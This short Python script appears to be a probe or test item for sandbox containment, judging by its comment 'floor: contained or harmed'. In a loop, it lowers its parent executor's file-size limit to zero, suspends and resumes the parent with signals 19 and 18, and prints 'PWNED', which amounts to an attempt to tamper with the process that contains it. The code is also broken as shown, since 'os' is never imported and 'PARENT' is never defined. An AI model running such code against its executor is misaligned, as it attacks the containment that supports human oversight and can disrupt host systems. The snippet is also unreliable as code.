# floor: contained or harmed
# It lowers a limit of its executor for a moment, in which that may be playing, and puts it back.
import resource, time
for _ in range(100):
    try:
        soft, hard = resource.prlimit(PARENT, resource.RLIMIT_FSIZE)
        resource.prlimit(PARENT, resource.RLIMIT_FSIZE, (0, hard))
        os.kill(PARENT, 19)
        resource.prlimit(PARENT, resource.RLIMIT_FSIZE, (soft, hard))
        os.kill(PARENT, 18)
        print("PWNED")
    except OSError:
        break
    time.sleep(0.002)
